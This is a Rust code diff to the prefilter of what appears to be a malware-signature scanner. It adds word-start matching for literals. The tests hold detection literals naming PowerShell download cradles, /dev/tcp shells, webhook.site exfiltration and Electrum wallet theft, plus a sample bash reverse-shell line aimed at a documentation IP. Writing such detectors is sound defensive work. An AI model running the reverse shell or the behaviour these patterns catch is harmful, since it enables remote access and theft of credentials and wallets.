@@ -11,7 +11,9 @@
 //! A second bitset, hashed another way, turns away most positions that hit the first by
 //! chance before the literals are looked at. Literals shorter than four bytes are
 //! searched for on their own: by a run of two or more bytes without letters when they
-//! have one (one pass whatever the case), else in every case spelling.
+//! have one (one pass whatever the case), else in every case spelling. A literal may ask
+//! for a word start, as YARA's `\b` before a letter does: the byte before it is then not
+//! a letter, a digit or `_` (or there is none).
 
 /// Slots of the bitset (2^18 bits, 32 KiB): with a few thousand cased grams set, about
 /// one position in a hundred is a false candidate, each settled by one table search.
@@ -37,6 +39,38 @@ const COMMONNESS: [u8; 256] = [
 /// Most ASCII-case spellings of one short literal or gram (four letters give 16).
 const MAX_CASE_VARIANTS: usize = 16;
 
+/// One literal the gate looks for.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Literal {
+    pub text: Vec<u8>,
+    /// Counts only where a word starts (YARA's `\b` before a word character).
+    pub word_start: bool,
+}
+
+impl Literal {
+    pub(crate) fn new(text: impl Into<Vec<u8>>, word_start: bool) -> Literal {
+        Literal {
+            text: text.into(),
+            word_start,
+        }
+    }
+
+    /// Whether `haystack` holds this literal, in any ASCII case, from `start` (where a word
+    /// starts, when it must).
+    fn is_at(&self, haystack: &[u8], start: usize) -> bool {
+        let found = haystack
+            .get(start..start + self.text.len())
+            .is_some_and(|found| found.eq_ignore_ascii_case(&self.text));
+        let word_starts = || {
+            start == 0 || {
+                let before = haystack[start - 1];
+                !(before.is_ascii_alphanumeric() || before == b'_')
+            }
+        };
+        found && (!self.word_start || word_starts())
+    }
+}
+
 pub(crate) struct AnchorGate {
     /// Cased grams, hashed.
     slots: Box<[u64; SLOT_WORDS]>,
@@ -45,10 +79,10 @@ pub(crate) struct AnchorGate {
     /// (lower-case gram, index of its literal, where the gram starts in it), by gram.
     grams: Vec<(u32, usize, usize)>,
     /// The literals of four bytes or more, in lower case.
-    literals: Vec<Vec<u8>>,
+    literals: Vec<Literal>,
     /// The shorter ones: a searcher for a piece of one, where the piece starts in it, and
     /// the literal in lower case.
-    short: Vec<(memchr::memmem::Finder<'static>, usize, Vec<u8>)>,
+    short: Vec<(memchr::memmem::Finder<'static>, usize, Literal)>,
 }
 
 impl std::fmt::Debug for AnchorGate {
@@ -83,7 +117,7 @@ fn gram_at(bytes: &[u8], at: usize) -> Option<u32> {
 impl AnchorGate {
     /// A gate for `literals`. Errs when a short literal or a gram has more case spellings
     /// than [`MAX_CASE_VARIANTS`] (it never does with four bytes or fewer).
-    pub(crate) fn new<L: AsRef<[u8]>>(literals: &[L]) -> Result<AnchorGate, String> {
+    pub(crate) fn new(literals: &[Literal]) -> Result<AnchorGate, String> {
         let mut gate = AnchorGate {
             slots: Box::new([0; SLOT_WORDS]),
             confirm: Box::new([0; SLOT_WORDS]),
@@ -92,12 +126,12 @@ impl AnchorGate {
             short: Vec::new(),
         };
         for literal in literals {
-            let lowered = literal.as_ref().to_ascii_lowercase();
+            let lowered = literal.text.to_ascii_lowercase();
             if lowered.is_empty() {
                 return Err("an empty literal".to_string());
             }
             if lowered.len() < 4 {
-                gate.add_short(lowered)?;
+                gate.add_short(Literal::new(lowered, literal.word_start))?;
                 continue;
             }
             let commonness = |at: usize| -> u32 {
@@ -118,7 +152,8 @@ impl AnchorGate {
             if let Some(gram) = gram_at(&lowered, at) {
                 gate.grams.push((gram, gate.literals.len(), at));
             }
-            gate.literals.push(lowered);
+            gate.literals
+                .push(Literal::new(lowered, literal.word_start));
         }
         gate.grams.sort_unstable();
         Ok(gate)
@@ -126,7 +161,8 @@ impl AnchorGate {
 
     /// A literal of one to three bytes: searched for by its longest run without letters
     /// when that run has two bytes or more, else by each of its case spellings.
-    fn add_short(&mut self, lowered: Vec<u8>) -> Result<(), String> {
+    fn add_short(&mut self, literal: Literal) -> Result<(), String> {
+        let lowered = &literal.text;
         let mut best = (0, 0);
         let mut run_start = 0;
         for at in 0..=lowered.len() {
@@ -139,11 +175,11 @@ impl AnchorGate {
         }
         if best.1 - best.0 >= 2 {
             let finder = memchr::memmem::Finder::new(&lowered[best.0..best.1]).into_owned();
-            self.short.push((finder, best.0, lowered));
+            self.short.push((finder, best.0, literal));
         } else {
-            for spelling in case_variants(&lowered)? {
+            for spelling in case_variants(lowered)? {
                 let finder = memchr::memmem::Finder::new(&spelling).into_owned();
-                self.short.push((finder, 0, lowered.clone()));
+                self.short.push((finder, 0, literal.clone()));
             }
         }
         Ok(())
@@ -154,8 +190,7 @@ impl AnchorGate {
         let short_found = self.short.iter().any(|(finder, offset, literal)| {
             finder.find_iter(haystack).any(|at| {
                 at.checked_sub(*offset)
-                    .and_then(|start| haystack.get(start..start + literal.len()))
-                    .is_some_and(|found| found.eq_ignore_ascii_case(literal))
+                    .is_some_and(|start| literal.is_at(haystack, start))
             })
         });
         short_found
@@ -178,10 +213,8 @@ impl AnchorGate {
             .iter()
             .take_while(|&&(g, _, _)| g == gram)
             .any(|&(_, literal, offset)| {
-                let literal = &self.literals[literal];
                 at.checked_sub(offset)
-                    .and_then(|start| haystack.get(start..start + literal.len()))
-                    .is_some_and(|found| found.eq_ignore_ascii_case(literal))
+                    .is_some_and(|start| self.literals[literal].is_at(haystack, start))
             })
     }
 }
@@ -226,34 +259,54 @@ fn case_variants(lowered: &[u8]) -> Result<Vec<Vec<u8>>, String> {
 mod tests {
     use super::*;
 
-    const LITERALS: &[&str] = &[
-        "_0x",
-        "iwr ",
-        "powershell.exe",
-        "/dev/tcp/",
-        "webhook.site",
-        "Electrum\\wallets",
-        "ﾟωﾟﾉ= /",
-        "qZ",
+    /// (text, whether it must start a word)
+    const LITERALS: &[(&str, bool)] = &[
+        ("_0x", false),
+        ("iwr ", true),
+        ("powershell.exe", false),
+        ("/dev/tcp/", false),
+        ("webhook.site", false),
+        ("Electrum\\wallets", false),
+        ("ﾟωﾟﾉ= /", false),
+        ("qZ", true),
     ];
 
-    /// The same question through an Aho-Corasick automaton, as the gate was before.
-    fn reference(literals: &[&str], haystack: &[u8]) -> bool {
+    fn literals() -> Vec<Literal> {
+        LITERALS
+            .iter()
+            .map(|(text, word_start)| Literal::new(*text, *word_start))
+            .collect()
+    }
+
+    /// The same question through an Aho-Corasick automaton (every occurrence, overlapping,
+    /// checked for a word start where one is asked for), as the gate was before.
+    fn reference(haystack: &[u8]) -> bool {
+        let texts: Vec<&str> = LITERALS.iter().map(|(text, _)| *text).collect();
         aho_corasick::AhoCorasick::builder()
             .ascii_case_insensitive(true)
-            .build(literals)
+            .build(&texts)
             .expect("automaton")
-            .is_match(haystack)
+            .find_overlapping_iter(haystack)
+            .any(|found| {
+                let word_start = LITERALS[found.pattern().as_usize()].1;
+                !word_start
+                    || found.start() == 0
+                    || !(haystack[found.start() - 1].is_ascii_alphanumeric()
+                        || haystack[found.start() - 1] == b'_')
+            })
     }
 
     #[test]
     fn literals_are_found_in_any_case_anywhere_and_only_in_whole() {
-        let gate = AnchorGate::new(LITERALS).expect("gate");
+        let gate = AnchorGate::new(&literals()).expect("gate");
         for (text, expected) in [
             ("Start-Process POWERSHELL.Exe -c", true),
             ("var _0X1a2b = [];", true),
             ("iwr", false),
             ("IWR https://x.example", true),
+            ("(iwr https://x.example", true),
+            ("confirm('x'); xiwr y", false),
+            ("_iwr y", false),
             ("exec('bash -i >& /DEV/TCP/192.0.2.1/4444')", true),
             ("/dev/tc", false),
             ("https://Webhook.Site/abc", true),
@@ -263,20 +316,21 @@ mod tests {
             ("ﾟωﾟﾉ= /", true),
             ("x_0y _0 _0X", true),
             ("x_0y _0", false),
-            ("xQzy", true),
+            ("xQzy", false),
+            (" qZy", true),
             ("q z", false),
             ("", false),
             ("abc", false),
         ] {
             let gate_says = gate.is_match(text.as_bytes());
             assert_eq!(gate_says, expected, "{text:?}");
-            assert_eq!(gate_says, reference(LITERALS, text.as_bytes()), "{text:?}");
+            assert_eq!(gate_says, reference(text.as_bytes()), "{text:?}");
         }
     }
 
     #[test]
     fn the_gate_answers_as_an_automaton_over_the_same_literals() {
-        let gate = AnchorGate::new(LITERALS).expect("gate");
+        let gate = AnchorGate::new(&literals()).expect("gate");
         // A deterministic mix of code-like text, literals in mixed case, their cut-off
         // pieces and arbitrary bytes, at every offset.
         let mut state: u64 = 0x2545_f491_4f6c_dd1d;
@@ -300,7 +354,7 @@ mod tests {
             for _ in 0..(next() % 6) {
                 let pick = next();
                 if pick % 5 == 0 {
-                    let literal = LITERALS[(pick / 5) as usize % LITERALS.len()].as_bytes();
+                    let literal = LITERALS[(pick / 5) as usize % LITERALS.len()].0.as_bytes();
                     haystack.extend(literal.iter().map(|&b| {
                         if next() % 2 == 0 {
                             b.to_ascii_uppercase()
@@ -316,7 +370,7 @@ mod tests {
             for haystack in [&haystack[..], &haystack[cut..], &haystack[..cut]] {
                 assert_eq!(
                     gate.is_match(haystack),
-                    reference(LITERALS, haystack),
+                    reference(haystack),
                     "{:?}",
                     String::from_utf8_lossy(haystack)
                 );
@@ -326,8 +380,11 @@ mod tests {
 
     #[test]
     fn a_short_literal_with_too_many_spellings_is_refused() {
-        assert!(AnchorGate::new(&["abcde"]).is_ok(), "grams have four bytes");
+        assert!(
+            AnchorGate::new(&[Literal::new("abcde", false)]).is_ok(),
+            "grams have four bytes"
+        );
         assert!(case_variants(b"abcde").is_err());
-        assert!(AnchorGate::new(&[""]).is_err());
+        assert!(AnchorGate::new(&[Literal::new("", false)]).is_err());
     }
 }
